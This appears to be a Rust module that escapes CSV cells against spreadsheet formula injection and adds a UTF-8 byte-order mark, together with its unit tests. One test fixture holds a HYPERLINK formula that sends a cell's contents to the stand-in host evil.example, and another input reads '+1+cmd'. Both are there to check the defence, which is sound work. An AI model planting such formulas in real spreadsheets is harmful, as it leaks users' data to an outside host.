//! What goes into a CSV cell quan writes. Every CSV file starts with a
//! UTF-8 byte-order mark, so a Chinese Excel opens it as UTF-8; and a text
//! cell a spreadsheet would run as a formula (OWASP's CSV injection rule: a
//! first character of `=`, `+`, `-`, `@`, tab or carriage return) gets a
//! leading `'`, so it is shown as text. A plain number (`-12.50`, an account
//! number) is left as it is: that is what the bank's importer reads.

use std::borrow::Cow;

/// The UTF-8 byte-order mark every CSV file quan writes starts with.
pub const BOM: &str = "\u{feff}";

/// Whether `s` is a plain decimal number: an optional `-`, digits, and an
/// optional fraction.
fn is_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (whole, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !frac.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// The cell as written: text that could start a formula is prefixed with `'`.
pub fn cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !is_number(s) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// A whole CSV field: [`cell`], then quoted when it holds a comma, a quote
/// or a line break.
pub fn field(s: &str) -> String {
    let v = cell(s);
    if v.contains([',', '"', '\n', '\r']) { format!("\"{}\"", v.replace('"', "\"\"")) } else { v.into_owned() }
}

/// One CSV line of fields, with its line break.
pub fn line<S: AsRef<str>>(fields: &[S]) -> String {
    let mut out = fields.iter().map(|f| field(f.as_ref())).collect::<Vec<_>>().join(",");
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_becomes_text_and_a_number_stays_a_number() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://evil.example/?"&A2,"查看")"#),
            r#"'=HYPERLINK("http://evil.example/?"&A2,"查看")"#
        );
        for bad in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-"] {
            assert!(cell(bad).starts_with('\''), "{bad:?}");
        }
        for fine in ["-12.50", "6222020200112233", "0.00", "宜昌商户", "", "a=b"] {
            assert_eq!(cell(fine), fine);
        }
    }

    #[test]
    fn a_field_with_a_comma_quote_or_break_is_quoted_and_a_formula_still_neutralised() {
        assert_eq!(field("一号"), "一号");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(field("=1+1,2"), "\"'=1+1,2\"");
        assert_eq!(line(&["a", "b,c"]), "a,\"b,c\"\n");
    }
}
